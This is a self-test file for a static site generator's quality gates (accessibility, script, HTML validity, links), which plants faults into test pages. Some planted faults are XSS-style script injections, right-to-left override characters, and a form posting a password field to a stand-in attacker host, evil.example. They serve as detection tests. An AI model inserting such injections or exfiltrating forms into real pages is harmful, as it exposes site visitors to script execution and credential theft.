// Self-tests: each gate, shown a page with the one fault it guards against, reports it;
// shown the same page without the fault, reports nothing. Faults are planted in small
// hand-written pages and in mutated copies of the built example site, in temp folders.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import { auditPage } from './lib/audit.js';
import { launch, watch } from './lib/browser.js';
import { OUTPUT, REPO, requireFile, tempDir } from './lib/env.js';
import { bidiLeaks, layoutFindings, scriptFindings } from './lib/hostile.js';
import { checkLinks, describeBroken } from './lib/links.js';
import { serve } from './lib/server.js';
import { baseUrlOf, listPages, mountOf } from './lib/site.js';
import { vnu } from './lib/vnu.js';

requireFile(path.join(OUTPUT, 'index.html'), 'Build the example site first: cargo build --release && ./target/release/kensho build');
const SITE = process.env.KENSHO_SITE_ROOT || REPO;
const publicBase = baseUrlOf(SITE);
const mount = mountOf(publicBase);

// A small page that passes every gate; each fault is one change to it.
const page = ({ lang = 'ja', title = '<title>試験ページ</title>', body = '' } = {}) => `<!DOCTYPE html>
<html${lang ? ` lang="${lang}"` : ''}>
<head><meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1">${title}
<style>body { margin: 0; font: 16px/1.7 sans-serif; color: #1a1a1c; background: #fff; } main { padding: 1rem; }</style>
</head>
<body><main><h1>試験ページ</h1><h2>節</h2>${body || '<p>本文です。</p>'}</main></body>
</html>
`;

const PLANTED = {
  'clean.html': page(),
  'contrast.html': page({ body: '<p style="color:#b0b0b0">薄すぎる文字</p>' }),
  'svg-contrast.html': page({ body: '<svg width="300" height="100" viewBox="0 0 300 100" role="img" aria-label="図"><rect width="300" height="100" fill="#fff"/><rect x="150" width="150" height="100" fill="#ffd43d"/><text x="10" y="40" font-size="16" fill="#aaaaaa">薄い字</text><text x="160" y="40" font-size="16" fill="#ffffff">黄色に白</text><text x="10" y="80" font-size="16" fill="#1a1a1c">濃い字</text><text x="160" y="80" font-size="16" fill="#1a1a1c">黄色に黒</text></svg>' }),
  'no-lang.html': page({ lang: '' }),
  'no-title.html': page({ title: '' }),
  'heading-skip.html': page({ body: '<h4>h2 の次に h4</h4><p>本文</p>' }),
  'overflow.html': page({ body: '<div style="width: 2000px">幅の広すぎる箱</div>' }),
  'cell-spill.html': page({ body: '<table><caption>表</caption><tr><th scope="col">値</th><th scope="col">次</th></tr><tr><td style="white-space: nowrap">623 <span style="display: inline-block; white-space: normal">(H27～R1の累計)</span></td><td>隣</td></tr></table>'.replace('<table>', '<table style="width: 200px; table-layout: fixed">') }),
  'console-error.html': page({ body: '<p>本文</p><script>console.error("planted console error")</script>' }),
  'failed-request.html': page({ body: '<p><img src="missing.png" alt="ない画像"></p>' }),
  'live-script.html': page({ body: `<p>本文</p><script>window.__pwned = 'planted'; alert('planted')</script><img src="x" alt="" onerror="window.__pwned2 = 1">` }),
  'rlo-next-node.html': page({ body: '<p><span>\u202e題名</span>の一覧です</p>' }),
  'rlo-same-node.html': page({ body: '<p>\u202e題名の一覧です</p>' }),
};

let dir;
let server;
let browser;
before(async () => {
  dir = tempDir('planted');
  for (const [name, html] of Object.entries(PLANTED)) fs.writeFileSync(path.join(dir, name), html);
  server = await serve(dir, '/planted/');
  browser = await launch();
});
after(async () => {
  await browser?.close();
  await server?.close();
  fs.rmSync(dir, { recursive: true, force: true });
});

async function audit(name) {
  const p = await browser.context.newPage();
  try {
    await p.setViewportSize({ width: 375, height: 812 });
    const watched = watch(p);
    await p.goto(`${server.base}${name}`, { waitUntil: 'load' });
    await p.waitForTimeout(100);
    const { violations, problems } = await auditPage(p, watched);
    return { ids: violations.map((v) => v.id), problems, watched, scripts: await scriptFindings(p).catch((e) => [String(e)]), bidi: await bidiLeaks(p, ['の一覧']) };
  } finally {
    await p.close();
  }
}

describe('the accessibility gate', () => {
  test('passes the clean page', async () => {
    const r = await audit('clean.html');
    assert.deepEqual(r.problems, []);
  });
  test('catches a contrast failure', async () => {
    const r = await audit('contrast.html');
    assert.deepEqual(r.ids, ['color-contrast'], r.problems.join('\n'));
  });
  test('catches low-contrast text in an inline SVG chart (which axe leaves to review)', async () => {
    const r = await audit('svg-contrast.html');
    assert.deepEqual(r.ids, []);
    assert.equal(r.problems.length, 2, r.problems.join('\n'));
    assert.match(r.problems[0], /^svg text contrast 2\.\d+:1 < 4\.5:1: "薄い字" \(#aaaaaa on #ffffff/);
    assert.match(r.problems[1], /^svg text contrast 1\.\d+:1 < 4\.5:1: "黄色に白" \(#ffffff on #ffd43d/);
  });
  test('catches a missing lang', async () => {
    const r = await audit('no-lang.html');
    assert.ok(r.problems.includes('missing lang on <html>'), r.problems.join('\n'));
    assert.ok(r.ids.includes('html-has-lang'), r.ids.join());
  });
  test('catches a missing title', async () => {
    const r = await audit('no-title.html');
    assert.ok(r.problems.includes('missing or empty <title>'), r.problems.join('\n'));
    assert.ok(r.ids.includes('document-title'), r.ids.join());
  });
  test('catches a heading that skips a level', async () => {
    const r = await audit('heading-skip.html');
    assert.ok(r.problems.some((p) => p.startsWith('heading skips a level: h2 "節" → h4')), r.problems.join('\n'));
  });
  test('catches horizontal overflow', async () => {
    const r = await audit('overflow.html');
    assert.ok(r.problems.some((p) => p.startsWith('horizontal overflow: page is')), r.problems.join('\n'));
  });
  test('catches content spilling out of a table cell over the next', async () => {
    const r = await audit('cell-spill.html');
    assert.ok(r.problems.some((p) => /^content spills \d+px out of its table cell: <span class=""> "\(H27～R1の累計\)"/.test(p)), r.problems.join('\n'));
  });
  test('catches a console error', async () => {
    const r = await audit('console-error.html');
    assert.ok(r.problems.some((p) => p.startsWith('console error: planted console error')), r.problems.join('\n'));
  });
  test('catches a failed request', async () => {
    const r = await audit('failed-request.html');
    assert.ok(r.problems.some((p) => p.startsWith('HTTP error: 404') && p.endsWith('/planted/missing.png')), r.problems.join('\n'));
  });
});

describe('the script gate', () => {
  test('passes the clean page', async () => {
    const r = await audit('clean.html');
    assert.deepEqual(r.scripts, []);
    assert.deepEqual(r.watched.dialogs, []);
  });
  test('catches a live script: the dialog, the globals it set, the script and handler left in the page', async () => {
    const r = await audit('live-script.html');
    assert.deepEqual(r.watched.dialogs, ['alert: planted']);
    for (const want of ['window.__pwned was set to "planted"', 'window.__pwned2 was set to "1"', '<script> element in the page', '<img> carries onerror="window.__pwned2 = 1"']) {
      assert.ok(r.scripts.includes(want), `missing "${want}" in:\n${r.scripts.join('\n')}`);
    }
  });
  test('catches a right-to-left override that reverses the text after it', async () => {
    assert.deepEqual((await audit('clean.html')).bidi, []);
    const next = await audit('rlo-next-node.html');
    assert.equal(next.bidi.length, 1, next.bidi.join('\n'));
    assert.match(next.bidi[0], /text reversed by a bidi override from elsewhere: "の一覧です"/);
    const same = await audit('rlo-same-node.html');
    assert.equal(same.bidi.length, 1, same.bidi.join('\n'));
    assert.match(same.bidi[0], /template text "の一覧" reversed/);
  });
  test('catches a layout broken by content (an unclosed element swallowing the footer)', async () => {
    const copy = tempDir('mutated-layout');
    fs.cpSync(OUTPUT, copy, { recursive: true });
    const file = path.join(copy, 'index.html');
    const html = fs.readFileSync(file, 'utf8');
    fs.writeFileSync(path.join(copy, 'broken.html'), html.replace('</main>', '<main>').replace(/<\/body>/, ''));
    const s = await serve(copy, mount);
    const p = await browser.context.newPage();
    try {
      await p.goto(s.base + 'index.html', { waitUntil: 'load' });
      assert.deepEqual(await layoutFindings(p), []);
      await p.goto(s.base + 'broken.html', { waitUntil: 'load' });
      const found = await layoutFindings(p);
      assert.ok(found.length > 0, 'a page with the footer inside <main> passed');
    } finally {
      await p.close();
      await s.close();
      fs.rmSync(copy, { recursive: true, force: true });
    }
  });
  test('accepts the site\'s own search boxes and script, and catches any other form or script', async () => {
    const copy = tempDir('mutated-search');
    fs.cpSync(OUTPUT, copy, { recursive: true });
    const searchPage = path.join(copy, 'search', 'index.html');
    const html = fs.readFileSync(searchPage, 'utf8');
    assert.ok(html.includes('assets/search.js'), 'the search page has no search.js');
    // Another external script beside search.js, a form that posts elsewhere, a text box.
    fs.writeFileSync(path.join(copy, 'search', 'planted.html'), html
      .replace('</head>', '<script src="../assets/planted.js" defer></script></head>')
      .replace('</main>', '<form action="https://evil.example/" method="post"><input name="pw"></form></main>'));
    const home = fs.readFileSync(path.join(copy, 'index.html'), 'utf8');
    // The header box sending its query off the site.
    fs.writeFileSync(path.join(copy, 'planted.html'), home.replace(/(<form class="site-search"[^>]*action=")[^"]*"/, '$1https://evil.example/search/"'));
    const s = await serve(copy, mount);
    const p = await browser.context.newPage();
    try {
      for (const url of ['', 'search/', 'search/?q=移住']) {
        await p.goto(s.base + url, { waitUntil: 'load' });
        assert.deepEqual(await scriptFindings(p), [], `/${url}`);
      }
      await p.goto(s.base + 'search/planted.html', { waitUntil: 'load' });
      const found = await scriptFindings(p);
      for (const want of ['<script> element in the page', '<form> element in the page', '<input> element in the page']) {
        assert.ok(found.includes(want), `missing "${want}" in:\n${found.join('\n')}`);
      }
      assert.equal(found.filter((f) => f === '<script> element in the page').length, 1, found.join('\n'));
      await p.goto(s.base + 'planted.html', { waitUntil: 'load' });
      const header = await scriptFindings(p);
      for (const want of ['<form> element in the page', '<input#site-search-q> element in the page', '<button> element in the page']) {
        assert.ok(header.includes(want), `missing "${want}" in:\n${header.join('\n')}`);
      }
    } finally {
      await p.close();
      await s.close();
      fs.rmSync(copy, { recursive: true, force: true });
    }
  });
  test('catches the live script in a mutated copy of a built page', async () => {
    const copy = tempDir('mutated-script');
    fs.cpSync(OUTPUT, copy, { recursive: true });
    const file = path.join(copy, 'index.html');
    fs.writeFileSync(file, fs.readFileSync(file, 'utf8').replace('</main>', `<p><a href="javascript:alert(1)">x</a><svg onload="window.__pwned='svg'"></svg></p></main>`));
    const s = await serve(copy, mount);
    const p = await browser.context.newPage();
    try {
      const watched = watch(p);
      await p.goto(s.base, { waitUntil: 'load' });
      const found = await scriptFindings(p);
      assert.ok(found.includes('window.__pwned was set to "svg"'), found.join('\n'));
      assert.ok(found.some((f) => f.startsWith('<svg> carries onload=')), found.join('\n'));
      assert.ok(found.some((f) => f.startsWith('<a> has href="javascript:alert(1)"')), found.join('\n'));
      assert.deepEqual(watched.dialogs, []);
    } finally {
      await p.close();
      await s.close();
      fs.rmSync(copy, { recursive: true, force: true });
    }
  });
});

describe('the Nu HTML Checker gate', () => {
  test('catches an invalid element planted in a copy of a built page, and only that', () => {
    const copy = tempDir('mutated-nu');
    try {
      const original = fs.readFileSync(path.join(OUTPUT, 'index.html'), 'utf8');
      fs.writeFileSync(path.join(copy, 'clean.html'), original);
      fs.writeFileSync(path.join(copy, 'invalid.html'), original.replace('</main>', '<div><li>迷子の項目</li></div></main>'));
      const errors = vnu([path.join(copy, 'clean.html'), path.join(copy, 'invalid.html')]).filter((m) => m.type === 'error');
      assert.equal(errors.length, 1, JSON.stringify(errors, null, 1));
      assert.match(errors[0].url, /invalid\.html$/);
      assert.match(errors[0].message, /Element “li” not allowed as child of element “div”/);
    } finally {
      fs.rmSync(copy, { recursive: true, force: true });
    }
  });
});

describe('the link gate', () => {
  test('catches a broken fragment, a missing page and a link out of the site folder planted in a copy of the built site', async () => {
    const copy = tempDir('mutated-links');
    fs.cpSync(OUTPUT, copy, { recursive: true });
    const program = listPages(copy).find((f) => f.startsWith('programs/'));
    const file = path.join(copy, program);
    fs.writeFileSync(file, fs.readFileSync(file, 'utf8').replace('</main>',
      '<p><a href="../../kpis/#no-such-kpi">壊れた断片</a> <a href="../no-such-program/">ない事業</a> <a href="#no-such-id">同じページの壊れた断片</a> <a href="../../../outside/">サイトの外</a></p></main>'));
    const s = await serve(copy, mount);
    try {
      const r = await checkLinks({ dir: copy, base: s.base, publicBase });
      const got = r.broken.map(describeBroken);
      assert.equal(r.broken.length, 4, got.join('\n'));
      assert.ok(r.broken.every((b) => b.from === program), got.join('\n'));
      assert.ok(got.some((g) => g.includes('"../../kpis/#no-such-kpi"') && g.includes('no element with id "no-such-kpi"')), got.join('\n'));
      assert.ok(got.some((g) => g.includes('"#no-such-id"') && g.includes('no element with id "no-such-id"')), got.join('\n'));
      assert.ok(got.some((g) => g.includes('"../no-such-program/"') && g.includes('answers 404')), got.join('\n'));
      assert.ok(got.some((g) => g.includes('"../../../outside/"') && g.includes('leaves the site folder')), got.join('\n'));
    } finally {
      await s.close();
      fs.rmSync(copy, { recursive: true, force: true });
    }
  });
  test('catches sitemap, feed and robots.txt URLs that name no file or leave the base URL', async () => {
    const copy = tempDir('mutated-crawler');
    fs.cpSync(OUTPUT, copy, { recursive: true });
    const edit = (file, from, to) => {
      const p = path.join(copy, file);
      const text = fs.readFileSync(p, 'utf8');
      assert.ok(text.includes(from), `${file} has no ${from}`);
      fs.writeFileSync(p, text.replace(from, to));
    };
    edit('sitemap.xml', '</urlset>', `  <url><loc>${publicBase}no-such-page/</loc></url>\n</urlset>`);
    // The example states no `updated`, so it has no feed (issue 53): one is written here.
    fs.writeFileSync(path.join(copy, 'feed.xml'), `<?xml version="1.0" encoding="UTF-8"?>\n<feed xmlns="http://www.w3.org/2005/Atom">\n  <id>${publicBase}feed.xml</id>\n  <entry>\n    <link rel="alternate" type="text/html" href="https://elsewhere.example.jp/x/"/>\n  </entry>\n</feed>\n`);
    edit('robots.txt', 'sitemap.xml', 'sitemap-9.xml');
    const s = await serve(copy, mount);
    try {
      const r = await checkLinks({ dir: copy, base: s.base, publicBase });
      const got = r.broken.map(describeBroken);
      assert.equal(r.broken.length, 3, got.join('\n'));
      assert.ok(got.some((g) => g.startsWith('sitemap.xml:') && g.includes('no-such-page/') && g.includes('answers 404')), got.join('\n'));
      assert.ok(got.some((g) => g.startsWith('feed.xml:') && g.includes('not an absolute URL under the base URL')), got.join('\n'));
      assert.ok(got.some((g) => g.startsWith('robots.txt:') && g.includes('sitemap-9.xml answers 404')), got.join('\n'));
    } finally {
      await s.close();
      fs.rmSync(copy, { recursive: true, force: true });
    }
  });
  test('catches a stylesheet that does not load under a sub-folder (a root-absolute path)', async () => {
    const copy = tempDir('mutated-abs');
    fs.cpSync(OUTPUT, copy, { recursive: true });
    const file = path.join(copy, 'kpis', 'index.html');
    fs.writeFileSync(file, fs.readFileSync(file, 'utf8').replace(/href="[^"]*assets\/style\.css"/, 'href="/assets/style.css"'));
    const s = await serve(copy, mount);
    try {
      const r = await checkLinks({ dir: copy, base: s.base, publicBase });
      if (mount === '/') {
        assert.deepEqual(r.broken, []); // at the server root the absolute path is right
      } else {
        assert.equal(r.broken.length, 1, r.broken.map(describeBroken).join('\n'));
        assert.match(describeBroken(r.broken[0]), /kpis\/index\.html:\d+ "\/assets\/style\.css" <link href>: leaves the site folder/);
      }
    } finally {
      await s.close();
      fs.rmSync(copy, { recursive: true, force: true });
    }
  });
});
